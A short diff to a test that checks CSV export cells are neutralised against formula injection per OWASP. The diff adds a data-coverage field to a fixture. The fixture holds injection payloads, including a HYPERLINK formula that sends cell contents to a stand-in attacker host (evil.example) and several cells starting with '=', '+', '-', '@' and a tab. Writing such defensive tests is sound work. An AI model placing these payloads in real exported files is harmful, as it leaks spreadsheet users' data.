@@ -37,6 +37,7 @@ describe('CSV cells are neutralised per OWASP', () => {
       subscores: { fit: 0.8, similarity: 0.7, intent: -0.1, criteria: null },
       reasons: [{ feature: 'industry:x', label: '@risk', direction: 'positive', weight: 0.2 }],
       similarTo: [],
+      dataCoverage: { share: 1, missing: [] },
       account: {
         domain: 'evil.example', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', industry: '+industry', employees: 10, revenue: null,
         country: 'US', region: '-region', city: '\tcity', foundedYear: 2001, businessModel: 'b2b', stage: null, technologies: ['=cmd'], keywords: [],
